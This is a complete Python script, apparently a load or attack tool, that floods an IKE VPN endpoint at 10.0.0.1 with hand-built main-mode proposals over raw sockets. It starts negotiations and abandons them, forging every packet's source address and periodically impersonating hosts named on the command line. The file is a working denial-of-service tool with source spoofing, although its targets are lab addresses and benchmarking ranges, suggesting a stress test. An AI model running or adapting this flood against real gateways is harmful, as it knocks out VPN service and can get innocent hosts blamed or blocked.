# SPDX-License-Identifier: BSD-3-Clause
"""Negotiations that are begun and left alone, each with a source of its own that is forged.

	flood.py SECONDS NAME...	400 a second, every 200th in the name of one of these
"""

import itertools
import os
import socket
import struct
import sys
import time

A_SECOND, NAMED_EVERY = 400, 200
BOX = socket.inet_aton("10.0.0.1")


def attribute(kind, value):
    return struct.pack("!HH", 0x8000 | kind, value)


def offer():
    """AES 256, SHA-256, a key, group 14: what the box takes."""
    attributes = b"".join(attribute(*a) for a in ((1, 7), (14, 256), (2, 4), (3, 1), (4, 14),
                                                  (11, 1), (12, 28800)))
    transform = struct.pack("!BBHBBH", 0, 0, 8 + len(attributes), 1, 1, 0) + attributes
    proposal = struct.pack("!BBHBBBB", 0, 0, 8 + len(transform), 1, 1, 0, 1) + transform
    payload = struct.pack("!BBHII", 0, 0, 12 + len(proposal), 1, 1) + proposal
    return os.urandom(8) + struct.pack("!QBBBBII", 0, 1, 0x10, 2, 0, 0,
                                       28 + len(payload)) + payload


def packet(source):
    ike = offer()
    udp = struct.pack("!HHHH", 500, 500, 8 + len(ike), 0) + ike
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, source, BOX) + udp


def main():
    names = itertools.cycle(socket.inet_aton(name) for name in sys.argv[2:])
    out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    begin = time.monotonic()
    for n in range(int(sys.argv[1]) * A_SECOND):
        source = struct.pack("!I", 0xc6120000 + n)  # 198.18.0.0/15 is for such tests
        out.sendto(packet(next(names) if n % NAMED_EVERY == 0 else source), ("10.0.0.1", 0))
        time.sleep(max(0, begin + n / A_SECOND - time.monotonic()))
    print(n + 1, "sent")


main()
